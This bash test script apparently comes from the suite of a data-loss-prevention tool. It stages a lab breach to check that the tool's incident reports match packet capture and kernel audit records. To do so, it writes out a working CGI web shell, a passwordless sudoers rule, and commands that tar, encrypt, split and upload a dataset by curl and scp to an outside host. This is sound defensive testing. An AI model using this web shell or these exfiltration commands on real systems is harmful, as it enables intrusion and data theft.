# SPDX-License-Identifier: GPL-2.0-only
# shellcheck shell=bash disable=SC2086,SC2154 # plain words; lib.sh
#
# The breach, again: a web shell, sudo to the application's user, tar, openssl,
# split, curl in pieces, then scp, and what is left handed over to a job of
# another service. What the evidence says of it is compared with what arrived,
# with what was on the wire, and with what the kernel's own audit saw.

rp=/srv/replay
rp_records=2000
[ ! -s "$here/replay-records" ] || rp_records=$(<"$here/replay-records")
rp_budget=$((rp_records / 5)) # KiB
rp_web=8081

replay_wanted()
{
	[[ " ${parts[*]} " == *" replay "* ]]
}

replay_prepare()
{
	replay_wanted || return
	chains_prepare
	id rpapp >/dev/null 2>&1 || useradd -r -M rpapp
	"$bin/tests/makeset" $rp --records $rp_records --photo-bytes 700
	chown -R rpapp: $rp/photos
	chmod -R go= $rp/photos
	mkdir -p $rp/www/cgi-bin
	cat >$rp/www/cgi-bin/shell <<-'S'
	#!/bin/bash
	echo "Content-Type: text/plain"
	echo
	exec bash -c "$(cat)" 2>&1
	S
	chmod 755 $rp/www/cgi-bin/shell
	echo "www-data ALL=(rpapp) NOPASSWD: ALL" >/etc/sudoers.d/replay
	install -o www-data -m 600 $ch/key /run/replay-key
}

replay_policy()
{
	cat <<-P
	mode: enforce
	follow-files: yes
	datasets:
	  replay: {paths: [$rp/photos], record: file}
	rules:
	  - {subject: "*", dataset: "*", read: unlimited,
	     release: {"*": ${rp_budget}KiB/hour}}
	P
}

# Whose web server it is: a service's, with nobody logged in.
replay_serve()
{
	in_cgroup /system.slice/apache2.service busybox httpd -f \
		-p $rp_web -u www-data -h $rp/www &
	rp_server=$!
	waits 10 replay_answers
}

replay_answers()
{
	[ "$(replay_do 'echo here')" = here ]
}

# replay_do COMMANDS: what an intruder outside has the web shell do.
replay_do()
{
	in_outside curl -sS -m ${2-300} --data-binary "$1" \
		http://10.99.0.1:$rp_web/cgi-bin/shell 2>&1
}

# What the wire carries out: bytes of TCP that were not there before.
replay_listen()
{
	ip netns exec outside python3 - >/tmp/wire 2>/out/wire <<-'P' &
	import signal, socket, struct, sys
	flows = {}
	def end(*_):
	    total = 0
	    for spans in flows.values():
	        at = None
	        for a, b in sorted(spans):
	            a = a if at is None else max(a, at)
	            total += max(0, b - a)
	            at = b if at is None else max(at, b)
	    print(total, flush=True)
	    sys.exit(0)
	signal.signal(signal.SIGTERM, end)
	ip = socket.htons(0x800)
	s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, ip)
	force = 33 # SO_RCVBUFFORCE
	s.setsockopt(socket.SOL_SOCKET, force, 64 << 20)
	print("ready", flush=True)
	while True:
	    p, where = s.recvfrom(65536)
	    if where[2] == 4 or p[9] != 6 or p[12:16] != bytes((10, 99, 0, 1)):
	        continue
	    head = (p[0] & 15) * 4
	    size = struct.unpack_from(">H", p, 2)[0]
	    sport, dport, seq = struct.unpack_from(">HHI", p, head)
	    data = size - head - (p[head + 12] >> 4) * 4
	    if data > 0:
	        flows.setdefault((sport, dport), []).append((seq, seq + data))
	P
	rp_wire=$!
	waits 10 grep -q ready /tmp/wire
}

replay_audit()
{
	mkdir -p /var/log/audit
	sed -i 's/^max_log_file_action.*/max_log_file_action = ignore/' \
		/etc/audit/auditd.conf
	auditd -s nochange && auditctl -e 1 -b 65536 >/dev/null &&
		auditctl -D >/dev/null &&
		auditctl -a always,exit -F arch=b64 -S openat \
			-F dir=$rp/photos -F success=1 -k replay
}

# The files that the kernel's audit saw opened, by their names.
replay_audited()
{
	auditctl -D >/dev/null
	auditctl -e 0 >/dev/null
	kill "$(pidof auditd)"
	sleep 1
	grep -ho 'name="[^"]*\.jpg"' /var/log/audit/audit.log |
		sed 's/.*["/]\([^/]*\)"$/\1/' | sort -u
}

replay_attack()
{
	replay_do "cd /tmp; sudo -n -u rpapp tar -cPf - $rp/photos |
		openssl enc -aes-256-ctr -pass pass:x -pbkdf2 -iter 1 |
		split -b $((rp_records * 75)) - piece.
		for p in piece.*; do
			curl -sS -m 3 -T \$p http://$there:9080/up
		done"
	replay_do "cd /tmp; timeout 10 scp -q -i /run/replay-key \\
		piece.a[ab] root@outside:$drop/" >/out/scp
	# What cron does tonight, with what lies there.
	in_cgroup /system.slice/cron.service setpriv --reuid www-data \
		--clear-groups bash -c "cat /tmp/piece.* | curl -sS -m 5 \
			-T - http://$there:9080/late" >/tmp/late 2>&1
}

replay_incident()
{
	json=$("$bin/cordon" incident list --json "$state/evidence")
	of '.blocked >= 3 and .state == "updated" and .actors >= 3 and
		.origins[0].records == '$rp_records
}

replay_shown()
{
	told=$("$bin/cordon" incident show 1 --json "$state/evidence" |
		jq -s "$1")
	[ "$told" = true ]
}

# What is told of bytes is what arrived, and no less than what was seen to.
replay_bytes()
{
	local wire came

	kill $rp_wire
	wait $rp_wire
	wire=$(tail -n 1 /tmp/wire)
	came=$(find $drop -type f -exec cat {} + | wc -c)
	told=$(jq .released_bytes <<<"$json")
	# How curl greets, before it reads what it sends, is no release.
	check released_is_no_more_than_the_wire_had "$told, $wire" \
		[ "$told" -le "$wire" ]
	check released_is_no_less_than_what_arrived "$told, $came" \
		[ "$told" -ge "$came" ]
	check released_is_within_the_budget "$told" \
		[ "$told" -le $((rp_budget << 10)) ]
	check something_arrived_within_the_budget "$came" [ "$came" -gt 0 ]
}

replay_list()
{
	local seen listed

	seen=$(replay_audited)
	listed=$("$bin/cordon" exposed 1 --json "$state/evidence" |
		jq -r .file | sed 's/.*\///' | sort)
	check exposed_is_what_the_audit_saw \
		"$(diff <(echo "$listed") <(echo "$seen") | head -n 3)" \
		[ "$listed" = "$seen" ]
	check exposed_has_all_records "$(grep -c . <<<"$listed")" \
		[ "$(grep -c . <<<"$listed")" = $rp_records ]
}

replay_cases()
{
	local rp_server rp_wire told

	agent_gone
	agent_with < <(replay_policy) || return
	replay_serve
	replay_listen
	replay_audit
	check audit_is_there "$(auditctl -s 2>&1 | head -n 3)" \
		grep -q replay < <(auditctl -l)
	replay_attack
	waits 60 replay_incident
	check breach_is_one_incident "$json" \
		[ "$(grep -c . <<<"$json")" = 1 ]
	check breach_has_who_and_where "$json" \
		of '.user == "www-data" and .unit == "apache2.service" and
			(.login_uid | not) and
			.act.address == "10.99.0.2"'
	check breach_has_its_chain "$told" \
		replay_shown 'map(select(.type == "step") |
			"\(.from_comm // "") \(.kind) \(.comm // "")") |
			(index(" read tar") and index("tar pipe openssl") and
			index("openssl pipe split")) != null'
	check breach_has_its_actors "$told" \
		replay_shown 'map(select(.type == "actor") | .comm) |
			index("curl") != null and
			(index("ssh") // index("scp")) != null'
	check breach_has_its_techniques "$json" \
		of '.techniques | contains(["T1005", "T1048", "T1074.001"])'
	replay_bytes
	replay_list
	kill $rp_server
	rm -f /tmp/piece.* /tmp/late
}
